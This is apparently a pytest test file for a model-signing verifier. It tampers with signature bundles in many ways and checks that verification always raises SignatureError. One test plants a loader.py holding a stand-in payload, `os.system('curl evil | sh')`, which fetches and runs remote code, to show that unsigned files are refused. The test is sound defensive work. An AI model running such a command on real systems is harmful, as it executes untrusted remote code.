"""model.sig altered every way we could think of: verification fails closed (SignatureError), never passes
and never escapes as another exception. And a signer's own ignore list cannot smuggle a file in."""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import model_signing
import pytest
from tests.fakes.signing_keys import KeyPair, key_pair

from ml_artifactory_action.errors import SignatureError
from ml_artifactory_action.provenance.signing import SigningMethod, Trust, sign_files, verify_folder
from ml_artifactory_action.settings import SignMode

Bundle = dict[str, Any]


@pytest.fixture(scope="module")
def key() -> KeyPair:
    return key_pair()


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory, key: KeyPair) -> Path:
    root = tmp_path_factory.mktemp("signed")
    (root / "model").mkdir()
    (root / "model" / "weights.bin").write_bytes(bytes(range(256)) * 16)
    (root / "model" / "config.json").write_text("{}")
    files = [(root / "model" / "weights.bin", "weights.bin"), (root / "model" / "config.json", "config.json")]
    (root / "work").mkdir()
    signature = sign_files(files, "m", SigningMethod(SignMode.KEY, private_key_pem=key.private_pem), root / "work")
    shutil.copyfile(signature.signature, root / "model" / "model.sig")
    return root / "model"


def _statement(bundle: Bundle) -> dict[str, Any]:
    return json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))


def _restate(bundle: Bundle, change: Callable[[dict[str, Any]], None]) -> None:
    statement = _statement(bundle)
    change(statement)
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()


def _flip_signature(bundle: Bundle) -> None:
    raw = bytearray(base64.b64decode(bundle["dsseEnvelope"]["signatures"][0]["sig"]))
    raw[-1] ^= 1
    bundle["dsseEnvelope"]["signatures"][0]["sig"] = base64.b64encode(bytes(raw)).decode()


MUTATIONS: dict[str, Callable[[Bundle], None]] = {
    "digest of a file": lambda b: _restate(b, lambda s: s["predicate"]["resources"][0].update(digest="00" * 32)),
    "file renamed": lambda b: _restate(b, lambda s: s["predicate"]["resources"][0].update(name="other.bin")),
    "file dropped": lambda b: _restate(b, lambda s: s["predicate"]["resources"].pop()),
    "ignore list widened": lambda b: _restate(b, lambda s: s["predicate"]["serialization"].update(ignore_paths=["x"])),
    "signature bit": _flip_signature,
    "signature removed": lambda b: b["dsseEnvelope"].update(signatures=[]),
    "key hint": lambda b: b["verificationMaterial"]["publicKey"].update(hint="ab" * 32),
    "payload type": lambda b: b["dsseEnvelope"].update(payloadType="application/json"),
    "no envelope": lambda b: b.pop("dsseEnvelope"),
    "media type": lambda b: b.update(mediaType="application/vnd.dev.sigstore.bundle+json;version=9"),
}


@pytest.mark.parametrize("mutation", MUTATIONS, ids=list(MUTATIONS))
def test_an_altered_signature_is_refused(tmp_path: Path, signed: Path, key: KeyPair, mutation: str) -> None:
    folder = tmp_path / "model"
    shutil.copytree(signed, folder)
    bundle = json.loads((folder / "model.sig").read_text())
    MUTATIONS[mutation](bundle)
    (folder / "model.sig").write_text(json.dumps(bundle))

    with pytest.raises(SignatureError):
        verify_folder(folder, Trust(public_key_pem=key.public_pem), tmp_path)


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b"\xff\xfe", b'{"mediaType": 1}'], ids=repr)
def test_an_unreadable_signature_is_refused(tmp_path: Path, signed: Path, key: KeyPair, content: bytes) -> None:
    folder = tmp_path / "model"
    shutil.copytree(signed, folder)
    (folder / "model.sig").write_bytes(content)

    with pytest.raises(SignatureError):
        verify_folder(folder, Trust(public_key_pem=key.public_pem), tmp_path)


def test_a_file_the_signers_own_ignore_list_lets_through_is_still_refused(tmp_path: Path, key: KeyPair) -> None:
    """model_signing skips files its signed statement lists as ignored; what resolve hands over must all be signed."""
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "weights.bin").write_bytes(b"\x01" * 64)
    private = tmp_path / "key.pem"
    private.write_text(key.private_pem)
    hashing = model_signing.hashing.Config().set_ignored_paths(paths=["loader.py"], ignore_git_paths=False)
    signing = model_signing.signing.Config().use_elliptic_key_signer(private_key=private)
    signing.set_hashing_config(hashing).sign(folder, tmp_path / "model.sig")
    shutil.copyfile(tmp_path / "model.sig", folder / "model.sig")
    (folder / "loader.py").write_text("import os; os.system('curl evil | sh')\n")

    with pytest.raises(SignatureError) as refused:
        verify_folder(folder, Trust(public_key_pem=key.public_pem), tmp_path)

    assert refused.value.message == "Files not covered by the signature: loader.py."
